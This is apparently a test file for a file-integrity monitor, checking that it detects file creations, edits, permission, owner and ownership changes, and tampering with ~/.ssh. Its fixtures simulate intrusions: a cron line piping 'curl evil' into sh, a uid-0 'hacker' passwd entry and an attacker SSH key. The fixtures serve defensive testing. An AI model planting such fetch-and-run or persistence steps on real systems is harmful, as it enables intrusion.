import { afterAll, beforeEach, afterEach, describe, expect, test } from "bun:test";
import { chmodSync, chownSync, mkdirSync, mkdtempSync, renameSync, rmSync, statSync, unlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createFim, type Fim } from "../../../../agent/monitor/fim/fim.ts";
import { defaultFimOptions, type FimOptions } from "../../../../agent/monitor/fim/config.ts";
import { createPackageManagerDetector } from "../../../../agent/monitor/fim/package-manager.ts";
import type { SecurityEvent } from "../../../../src/ingest/frame/frame.ts";

const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

function setup(over: Partial<FimOptions> = {}, files: Record<string, string> = { "etc/passwd": "root:x:0:0::/root:/bin/bash\n", "etc/hosts": "127.0.0.1 localhost\n", "bin/tool": "#!/bin/sh\n" }) {
  const root = mkdtempSync(join(tmpdir(), "servermind-fim-"));
  dirs.push(root);
  for (const [p, c] of Object.entries(files)) {
    mkdirSync(join(root, p, ".."), { recursive: true });
    writeFileSync(join(root, p), c);
  }
  const state = mkdtempSync(join(tmpdir(), "servermind-fim-state-"));
  dirs.push(state);
  const o: FimOptions = { ...defaultFimOptions(join(state, "fim.db"), root), paths: [join(root, "etc"), join(root, "bin")], rescanIntervalMs: 0, ...over };
  const events: SecurityEvent[] = [];
  const waiters: Array<{ pred: (e: SecurityEvent) => boolean; resolve: (e: SecurityEvent) => void }> = [];
  const sink = (evs: SecurityEvent[]) => {
    for (const e of evs) {
      events.push(e);
      for (let i = waiters.length - 1; i >= 0; i--) if (waiters[i].pred(e)) waiters.splice(i, 1)[0].resolve(e);
    }
  };
  const next = (pred: (e: SecurityEvent) => boolean, ms = 3000) =>
    new Promise<SecurityEvent>((resolve, reject) => {
      const hit = events.find(pred);
      if (hit) return resolve(hit);
      const t = setTimeout(() => reject(new Error(`no matching event within ${ms} ms; got ${JSON.stringify(events.map((e) => [e.type, e.path]))}`)), ms);
      waiters.push({ pred, resolve: (e) => (clearTimeout(t), resolve(e)) });
    });
  return { root, o, events, sink, next, p: (rel: string) => join(root, rel) };
}

let fim: Fim | undefined;
afterEach(async () => {
  await fim?.stop();
  fim = undefined;
});

describe("FIM with real inotify", () => {
  test("create, modify, permission, owner, rename, delete and new directories, with before/after values", async () => {
    const s = setup();
    fim = createFim(s.o, s.sink);
    await fim.start();
    expect(s.events).toEqual([]); // first run builds the baseline silently
    expect(fim.stats()).toMatchObject({ watches: 2, files: 5 });

    writeFileSync(s.p("etc/hosts"), "127.0.0.1 localhost evil\n");
    const mod = await s.next((e) => e.type === "fim.modify" && e.path === s.p("etc/hosts"));
    expect(mod.data).toMatchObject({ changes: ["content"], detectedBy: "realtime", before: { size: 20, mode: "0644" }, after: { size: 25 } });
    expect((mod.data!.before as any).sha256).not.toBe((mod.data!.after as any).sha256);

    chmodSync(s.p("etc/passwd"), 0o666);
    expect((await s.next((e) => e.type === "fim.permission")).data).toMatchObject({ before: { mode: "0644" }, after: { mode: "0666" }, changes: ["mode"] });
    chownSync(s.p("bin/tool"), 1234, 1234);
    const own = await s.next((e) => e.type === "fim.owner");
    expect(own).toMatchObject({ path: s.p("bin/tool"), severity: 7, data: { before: { uid: 0 }, after: { uid: 1234, gid: 1234 } } });

    writeFileSync(s.p("etc/new.conf"), "x=1\n");
    expect((await s.next((e) => e.type === "fim.create")).path).toBe(s.p("etc/new.conf"));
    renameSync(s.p("etc/new.conf"), s.p("etc/renamed.conf"));
    expect((await s.next((e) => e.type === "fim.rename")).data).toMatchObject({ from: s.p("etc/new.conf"), to: s.p("etc/renamed.conf") });
    unlinkSync(s.p("etc/renamed.conf"));
    expect((await s.next((e) => e.type === "fim.delete" && e.path === s.p("etc/renamed.conf"))).data).toMatchObject({ after: null, before: { size: 4 } });

    mkdirSync(s.p("etc/cron.d"));
    writeFileSync(s.p("etc/cron.d/job"), "* * * * * root id\n");
    await s.next((e) => e.type === "fim.create" && e.path === s.p("etc/cron.d/job"));
    writeFileSync(s.p("etc/cron.d/job"), "* * * * * root curl evil | sh\n");
    await s.next((e) => e.type === "fim.modify" && e.path === s.p("etc/cron.d/job")); // the new directory is watched
    expect(fim.stats().watches).toBe(3);
  });

  test("change-to-event latency over 100 changes (p95 under 2 s; typically tens of ms)", async () => {
    const s = setup({ debounceMs: 50 });
    fim = createFim(s.o, s.sink);
    await fim.start();
    const lat: number[] = [];
    for (let i = 0; i < 100; i++) {
      const t0 = performance.now();
      writeFileSync(s.p("etc/hosts"), `127.0.0.1 localhost ${i}\n`);
      await s.next((e) => e.type === "fim.modify" && (e.data!.after as any).size === `127.0.0.1 localhost ${i}\n`.length && !lat[i], 3000);
      lat.push(performance.now() - t0);
      s.events.length = 0;
    }
    lat.sort((a, b) => a - b);
    const p95 = lat[94];
    console.log(`FIM change-to-event latency: p50 ${lat[49].toFixed(1)} ms, p95 ${p95.toFixed(1)} ms, max ${lat[99].toFixed(1)} ms`);
    expect(p95).toBeLessThan(2000);
  }, 60_000);

  test("ignore globs are honoured", async () => {
    const s = setup({ ignore: ["**/*.swp", "**/ignored/**"] });
    fim = createFim(s.o, s.sink);
    await fim.start();
    writeFileSync(s.p("etc/.hosts.swp"), "x");
    writeFileSync(s.p("etc/hosts"), "changed\n");
    await s.next((e) => e.path === s.p("etc/hosts"));
    await Bun.sleep(150);
    expect(s.events.map((e) => e.path)).toEqual([s.p("etc/hosts")]);
    expect(fim.stats().ignored).toBeGreaterThanOrEqual(1);
  });

  test("watch cap: reported, directories over it are caught by the rescan", async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 6; i++) files[`etc/d${i}/f`] = "v1\n";
    const s = setup({ maxWatches: 3, paths: [] }, files);
    s.o.paths = [s.p("etc")];
    fim = createFim(s.o, s.sink);
    await fim.start();
    const limit = await s.next((e) => e.type === "fim.watch_limit");
    expect(limit.data).toMatchObject({ maxWatches: 3 });
    expect(fim.stats()).toMatchObject({ watches: 3, unwatchedDirs: 4 });
    writeFileSync(s.p("etc/d5/f"), "v2\n"); // d5 is beyond the cap (sorted walk watches etc, d0, d1)
    await Bun.sleep(200);
    expect(s.events.filter((e) => e.type === "fim.modify")).toEqual([]);
    await fim.rescan();
    const found = await s.next((e) => e.type === "fim.modify");
    expect(found).toMatchObject({ path: s.p("etc/d5/f"), data: { detectedBy: "rescan" } });
  });

  test("queue overflow: bounded, reported, and the rescan it triggers finds every change", async () => {
    const s = setup({ maxPending: 5, debounceMs: 200 });
    fim = createFim(s.o, s.sink);
    await fim.start();
    for (let i = 0; i < 40; i++) writeFileSync(s.p(`etc/flood${i}`), `${i}\n`);
    await s.next((e) => e.type === "fim.queue_overflow");
    for (let i = 0; i < 100 && s.events.filter((e) => e.type === "fim.create").length < 40; i++) await Bun.sleep(20);
    const created = new Set(s.events.filter((e) => e.type === "fim.create").map((e) => e.path));
    expect(created.size).toBe(40);
    expect(s.events.some((e) => e.type === "fim.create" && e.data!.detectedBy === "rescan")).toBe(true);
    expect(fim.stats().queueOverflows).toBeGreaterThanOrEqual(1);
  });

  test("the rescan never pauses real-time detection", async () => {
    const files: Record<string, string> = { "etc/hosts": "a\n" };
    for (let i = 0; i < 3000; i++) files[`bin/b${i % 30}/f${i}`] = `file ${i}\n`;
    const s = setup({ rescanSlice: 50 }, files);
    fim = createFim(s.o, s.sink);
    await fim.start();
    // make the rescan do real work: touch every file's content
    for (let i = 0; i < 3000; i += 7) writeFileSync(s.p(`bin/b${i % 30}/f${i}`), `changed ${i}\n`);
    await Bun.sleep(200);
    s.events.length = 0;
    const scanning = fim.rescan();
    expect(fim.stats().rescanRunning).toBe(true);
    writeFileSync(s.p("etc/hosts"), "b\n");
    const e = await s.next((x) => x.path === s.p("etc/hosts"));
    expect(e.data!.detectedBy).toBe("realtime");
    expect(fim.stats().rescanRunning).toBe(true); // seen while the rescan was still running
    await scanning;
  }, 30_000);

  test("rate limiting holds back a burst and reports it in a summary event", async () => {
    const s = setup({ ratePerSecond: 2, rateBurst: 10 });
    fim = createFim(s.o, s.sink);
    await fim.start();
    for (let i = 0; i < 60; i++) writeFileSync(s.p(`etc/burst${i}`), "x");
    await Bun.sleep(300);
    expect(s.events.filter((e) => e.type === "fim.create").length).toBe(10);
    await Bun.sleep(600);
    writeFileSync(s.p("etc/hosts"), "after burst\n");
    const summary = await s.next((e) => e.type === "fim.rate_limited");
    expect(summary.data).toMatchObject({ suppressed: 50 });
    expect(fim.stats().eventsSuppressed).toBeGreaterThanOrEqual(50);
  });

  test("changes while the agent was down are reported at start-up", async () => {
    const s = setup();
    fim = createFim(s.o, s.sink);
    await fim.start();
    await fim.stop();
    writeFileSync(s.p("etc/passwd"), "root:x:0:0::/root:/bin/bash\nhacker:x:0:0::/:/bin/sh\n");
    unlinkSync(s.p("bin/tool"));
    fim = createFim(s.o, s.sink);
    await fim.start();
    expect(s.events.map((e) => [e.type, e.path, e.data!.detectedBy])).toEqual([
      ["fim.modify", s.p("etc/passwd"), "startup"],
      ["fim.delete", s.p("bin/tool"), "startup"],
    ]);
  });

  test("a configured path that does not exist yet (a new user's ~/.ssh) is picked up in real time", async () => {
    const s = setup({}, { "etc/hosts": "a\n", "home/alice/.profile": "x\n" });
    s.o.paths = [s.p("etc"), s.p("home/alice/.ssh")];
    fim = createFim(s.o, s.sink);
    await fim.start();
    writeFileSync(s.p("home/alice/.bash_history"), "ls\n"); // not watched: not reported
    mkdirSync(s.p("home/alice/.ssh"));
    writeFileSync(s.p("home/alice/.ssh/authorized_keys"), "ssh-ed25519 AAAA attacker\n");
    const e = await s.next((x) => x.path === s.p("home/alice/.ssh/authorized_keys"));
    expect(e).toMatchObject({ type: "fim.create", severity: 8, data: { detectedBy: "realtime" } });
    writeFileSync(s.p("home/alice/.ssh/authorized_keys"), "ssh-ed25519 AAAA attacker\nssh-ed25519 BBBB more\n");
    await s.next((x) => x.type === "fim.modify" && x.path === s.p("home/alice/.ssh/authorized_keys")); // now watched
    // removed and created again: still followed
    rmSync(s.p("home/alice/.ssh"), { recursive: true });
    await s.next((x) => x.type === "fim.delete" && x.path === s.p("home/alice/.ssh"));
    mkdirSync(s.p("home/alice/.ssh"));
    writeFileSync(s.p("home/alice/.ssh/authorized_keys"), "again\n");
    await s.next((x) => x.type === "fim.create" && x.path === s.p("home/alice/.ssh/authorized_keys") && (x.data!.after as any).size === 6);
    expect(s.events.some((x) => x.path?.endsWith(".bash_history"))).toBe(false);
  });

  test("changes made while the package manager holds its lock are labelled", async () => {
    const s = setup({}, { "etc/hosts": "a\n", "var/lib/dpkg/lock-frontend": "", "var/lib/dpkg/info/base-files.list": "/etc/hosts\n" });
    const det = createPackageManagerDetector({ root: s.root });
    fim = createFim(s.o, s.sink, { packageLabel: (p) => det.label(p) });
    await fim.start();
    writeFileSync(s.p("etc/hosts"), "b\n");
    const plain = await s.next((e) => e.type === "fim.modify");
    expect(plain.data!.packageManager).toBeUndefined();
    expect(plain.severity).toBe(5);
    await Bun.sleep(150);
    s.events.length = 0;
    const holder = Bun.spawn(["flock", s.p("var/lib/dpkg/lock-frontend"), "sleep", "3"]);
    await Bun.sleep(300);
    writeFileSync(s.p("etc/hosts"), "c\n");
    const labelled = await s.next((e) => e.type === "fim.modify");
    holder.kill();
    await holder.exited;
    expect(labelled.data!.packageManager).toEqual({ via: "lock", package: "base-files" });
    expect(labelled.severity).toBe(2);
  });

  test("the detector remembers only package files under the watched paths", () => {
    const s = setup({}, { "var/lib/dpkg/lock-frontend": "", "var/lib/dpkg/info/base-files.list": "/etc\n/etc/hosts\n/usr/share/doc/base-files/README\n" });
    // a lock held right now, as /proc/locks shows it (by inode)
    const ino = statSync(s.p("var/lib/dpkg/lock-frontend")).ino;
    writeFileSync(s.p("locks"), `1: POSIX  ADVISORY  WRITE 4242 00:00:${ino} 0 EOF\n`);
    const all = createPackageManagerDetector({ root: s.root, procLocks: s.p("locks") });
    const watched = createPackageManagerDetector({ root: s.root, procLocks: s.p("locks"), within: ["/etc/"] });
    for (const det of [all, watched]) {
      expect(det.label("/etc/hosts")).toEqual({ via: "lock", package: "base-files" });
      expect(det.label("/etc")).toEqual({ via: "lock", package: "base-files" });
    }
    expect(all.label("/usr/share/doc/base-files/README")).toEqual({ via: "lock", package: "base-files" });
    expect(watched.label("/usr/share/doc/base-files/README")).toEqual({ via: "lock" }); // FIM never asks about it
  });
});
